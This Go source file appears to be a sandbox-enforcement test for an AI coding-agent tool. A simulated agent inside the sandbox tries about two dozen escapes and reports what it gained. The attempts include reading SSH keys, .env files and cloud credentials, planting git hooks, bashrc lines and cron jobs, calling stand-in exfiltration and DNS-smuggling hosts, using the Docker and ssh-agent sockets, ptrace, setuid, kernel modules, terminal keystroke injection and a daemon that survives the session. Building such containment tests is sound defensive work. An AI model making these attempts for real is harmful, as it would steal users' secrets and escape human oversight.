package cli

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"syscall"
	"time"
	"unsafe"

	"coworker/enforce"
)

// targets tell the attacker what is out there. A real one would know or guess.
type targets struct {
	Home        string // the person's home folder
	Workspace   string
	State       string // coworker's own state folder
	Victim      int    // a process of the person's
	Port        int    // a service of the person's on 127.0.0.1
	AgentSocket string // an ssh-agent, outside the workspace
	Docker      string // a Docker socket, in the workspace
	Marker      string // in the arguments of the daemon that is to survive
}

// try is one attempt: what it is, the wall that should stop it, and the attempt itself. It returns what it gained.
type try struct {
	id   string
	text string
	wall enforce.Wall
	do   func(t targets) (gained string, err error)
}

func tries() []try {
	return []try{
		{"ssh-key", "read the person's SSH key", enforce.FSRead, func(t targets) (string, error) { return readText(t.Home, ".ssh/id_ed25519") }},
		{"state", "read coworker's own record", enforce.FSRead, func(t targets) (string, error) { return readText(t.State, "coworker.db") }},
		{"bashrc", "add a line to ~/.bashrc", enforce.FSWrite, func(t targets) (string, error) { return appendText(t.Home, ".bashrc") }},
		{"etc", "add a job to /etc/cron.d", enforce.FSWrite, func(targets) (string, error) { return appendText("/etc/cron.d", "coworker-demo") }},
		{"env-file", "read the project's .env", enforce.FSHide, func(t targets) (string, error) { return readText(t.Workspace, ".env") }},
		{"environment", "find a cloud key in the environment", enforce.Env, readEnvironment},
		{"hook", "plant a git hook", enforce.FSProtect, func(t targets) (string, error) { return appendText(t.Workspace, ".git/hooks/pre-commit") }},
		{"git-config", "make .git/config run a program", enforce.FSProtect, func(t targets) (string, error) { return appendText(t.Workspace, ".git/config") }},
		{"git-swap", "swap the whole .git folder", enforce.FSProtect, swapGit},
		{"tasks", "plant an editor task in .vscode", enforce.FSProtect, func(t targets) (string, error) { return appendText(t.Workspace, ".vscode/tasks.json") }},
		{"metadata", "ask the cloud's metadata service for a token", enforce.NetEgress, func(targets) (string, error) { return connect("tcp", "169.254.169.254:80") }},
		{"exfiltrate", "send the source to a server", enforce.NetEgress, func(targets) (string, error) { return connect("tcp", "203.0.113.7:443") }},
		{"dns", "smuggle data out in a DNS query", enforce.NetEgress, queryDNS},
		{"loopback", "use a database on the person's 127.0.0.1", enforce.NetLocal, func(t targets) (string, error) {
			return connect("tcp", net.JoinHostPort("127.0.0.1", strconv.Itoa(t.Port)))
		}},
		{"ssh-agent", "sign with the person's ssh-agent", enforce.NetLocal, func(t targets) (string, error) { return connect("unix", t.AgentSocket) }},
		{"docker", "start a root container through the Docker socket", enforce.NetLocal, useDocker},
		{"kill", "kill a program of the person's", enforce.Proc, func(t targets) (string, error) { return done(syscall.Kill(t.Victim, syscall.SIGKILL)) }},
		{"memory", "read another program's memory", enforce.Proc, func(t targets) (string, error) { return readText("/proc/"+strconv.Itoa(t.Victim), "environ", "mem") }},
		{"ptrace", "take another program over with ptrace", enforce.Proc, func(t targets) (string, error) { return done(syscall.PtraceAttach(t.Victim)) }},
		{"root", "become root, or use its rights", enforce.Priv, becomeRoot},
		{"mount", "mount a file system", enforce.Priv, func(targets) (string, error) { return done(syscall.Mount("none", "/tmp", "tmpfs", 0, "")) }},
		{"namespace", "become root in a namespace of its own", enforce.Priv, newNamespace},
		{"module", "load a kernel module", enforce.Kernel, loadModule},
		{"terminal", "type commands into the person's terminal", enforce.Kernel, typeCommands},
		{"daemon", "leave a daemon behind", enforce.Life, leaveDaemon},
	}
}

// attempt is what the attacker says about one try. The host believes only what it cost the attacker to say.
type attempt struct {
	ID     string `json:"id"`
	Gained string `json:"gained"`
	Error  string `json:"error"`
}

// playAgent is the program inside the wall, and in the role of victim one outside.
func playAgent(e *environment, role, argument string) error {
	switch role {
	case "attack":
		var t targets
		if err := json.Unmarshal([]byte(argument), &t); err != nil {
			return &usageError{text: "targets: " + err.Error()}
		}
		return attack(e.out, t)
	case "victim": // answers each line, so that the host sees it alive
		in := bufio.NewScanner(e.in)
		for in.Scan() {
			if _, err := fmt.Fprintln(e.out, in.Text()); err != nil {
				return err
			}
		}
		return in.Err()
	}
	return &usageError{text: fmt.Sprintf("role %q", role)}
}

func attack(out io.Writer, t targets) error {
	// Ordinary work goes first: walls that stop everything would prove nothing.
	if err := os.WriteFile(filepath.Join(t.Workspace, "main.go"), []byte(demoWork), 0o644); err != nil {
		return err
	}
	enc := json.NewEncoder(out)
	for _, one := range tries() {
		a := attempt{ID: one.id}
		var err error
		if a.Gained, err = one.do(t); err != nil {
			a.Error = err.Error()
			var errno syscall.Errno
			if errors.As(err, &errno) {
				a.Error = errno.Error()
			}
		}
		if err := enc.Encode(a); err != nil {
			return err
		}
	}
	return nil
}

const (
	demoWork    = "package main // edited by the agent\n"
	demoDevice  = "disk"
	demoPlanted = "# planted by the agent\n"
)

// done is for attempts that gain nothing but their effect.
func done(err error) (string, error) {
	if err != nil {
		return "", err
	}
	return "the call succeeded", nil
}

// readText reads the first of some files that opens.
func readText(dir string, names ...string) (string, error) {
	var first error
	for _, name := range names {
		f, err := os.Open(filepath.Join(dir, name))
		if err != nil {
			if first == nil {
				first = err
			}
			continue
		}
		defer f.Close()
		data, err := io.ReadAll(io.LimitReader(f, 4096))
		if err == nil {
			return fmt.Sprintf("%q", data), nil
		}
		first = err
	}
	return "", first
}

func appendText(dir, name string) (string, error) {
	file := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
		return "", err
	}
	f, err := os.OpenFile(file, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o755)
	if err != nil {
		return "", err
	}
	_, err = f.WriteString(demoPlanted)
	return done(errors.Join(err, f.Close()))
}

func readEnvironment(targets) (string, error) {
	if v := os.Getenv("AWS_SECRET_ACCESS_KEY"); v != "" {
		return v, nil
	}
	return "", errors.New("the variable is not there")
}

func swapGit(t targets) (string, error) {
	git := filepath.Join(t.Workspace, ".git")
	if err := os.Rename(git, git+".old"); err != nil {
		return "", err
	}
	return appendText(t.Workspace, ".git/config")
}

func connect(network, address string) (string, error) {
	c, err := net.DialTimeout(network, address, 2*time.Second)
	if err != nil {
		return "", err
	}
	return done(c.Close())
}

// queryDNS sends a query for a name that carries data. UDP needs no answer to do its harm.
func queryDNS(targets) (string, error) {
	c, err := net.Dial("udp", "192.0.2.53:53")
	if err != nil {
		return "", err
	}
	defer c.Close()
	_, err = c.Write([]byte("\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x01\x00\x01"))
	return done(err)
}

func useDocker(t targets) (string, error) {
	gained, err := connect("unix", t.Docker)
	if err != nil {
		if gained, sysErr := connect("unix", "/var/run/docker.sock"); sysErr == nil {
			return gained, nil
		}
	}
	return gained, err
}

// becomeRoot tries the id, then a right that only root has: a device node is the whole disk.
func becomeRoot(t targets) (string, error) {
	if os.Geteuid() != 0 {
		if err := syscall.Setuid(0); err != nil {
			return "", err
		}
	}
	return done(syscall.Mknod(filepath.Join(t.Workspace, demoDevice), syscall.S_IFBLK|0o600, 8<<8))
}

// newNamespace starts a program in a user namespace where it would be root and could mount and trace.
func newNamespace(targets) (string, error) {
	cmd := exec.Command("/bin/true")
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER}
	return done(cmd.Run())
}

func loadModule(targets) (string, error) {
	image := []byte("not a module")
	_, _, errno := syscall.Syscall(syscall.SYS_INIT_MODULE, uintptr(unsafe.Pointer(&image[0])), uintptr(len(image)), uintptr(unsafe.Pointer(&[]byte{0}[0])))
	if errno == syscall.ENOEXEC {
		return "the kernel looked at the module", nil
	}
	return "", errno
}

// typeCommands pushes a key into the input of a terminal (TIOCSTI). Its own will do: the kernel does not ask whose
// it is once the call is allowed.
func typeCommands(targets) (string, error) {
	terminal, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		return "", err
	}
	defer terminal.Close()
	key := byte('\n')
	_, _, errno := syscall.Syscall(syscall.SYS_IOCTL, terminal.Fd(), syscall.TIOCSTI, uintptr(unsafe.Pointer(&key)))
	if errno == 0 {
		return "a key was typed", nil
	}
	return "", errno
}

// leaveDaemon starts a process in a session of its own, away from its parent. Starting one is allowed; that it
// lives on is what the wall prevents, and the host looks for it.
func leaveDaemon(t targets) (string, error) {
	cmd := exec.Command("/bin/sh", "-c", "sleep 600; : "+t.Marker)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	if err := cmd.Start(); err != nil {
		return "", err
	}
	return "", cmd.Process.Release()
}
